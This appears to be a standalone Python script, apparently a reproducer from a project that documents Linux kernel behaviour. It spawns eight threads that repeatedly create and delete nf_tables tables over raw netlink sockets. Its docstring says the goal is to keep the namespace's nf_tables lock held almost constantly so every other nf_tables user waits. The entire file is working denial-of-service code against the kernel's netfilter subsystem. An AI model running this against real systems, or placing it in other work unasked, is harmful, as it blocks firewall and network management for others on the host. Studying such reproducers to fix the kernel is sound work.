#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Has nf_tables of its network namespace locked nearly all the time, without work for a processor: program, ended by a signal.

Each thread deletes a table and closes its socket, and the kernel waits at that with the lock in its hands for the end of a grace
period of RCU: doc/linux.md. Who else wants something of nf_tables stands in line with all of them.
"""
import signal
import socket
import struct
import threading

THREADS = 8
NETLINK_NETFILTER = 12
BATCH_BEGIN, BATCH_END = 16, 17
NFTABLES = 10
NEWTABLE, DELTABLE = NFTABLES << 8, NFTABLES << 8 | 2
NLM_F_REQUEST, NLM_F_CREATE = 1, 0x400
INET = 1
TABLE_NAME = 1


def message(kind, flags, family, resource, body=b""):
    return struct.pack("=IHHIIBBH", 20 + len(body), kind, NLM_F_REQUEST | flags, 0, 0, family, 0, socket.htons(resource)) + body


def batch(kind, flags, name):
    text = name.encode() + b"\0"
    attribute = struct.pack("=HH", 4 + len(text), TABLE_NAME) + text + bytes(-len(text) % 4)
    return message(BATCH_BEGIN, 0, 0, NFTABLES) + message(kind, flags, INET, 0, attribute) + message(BATCH_END, 0, 0, NFTABLES)


def lock(name):
    while True:
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_NETFILTER) as connection:
            connection.send(batch(NEWTABLE, NLM_F_CREATE, name))
            connection.send(batch(DELTABLE, 0, name))


def main():
    for number in range(THREADS):
        threading.Thread(target=lock, args=("locks%d" % number,), daemon=True).start()
    signal.pause()


if __name__ == "__main__":
    main()
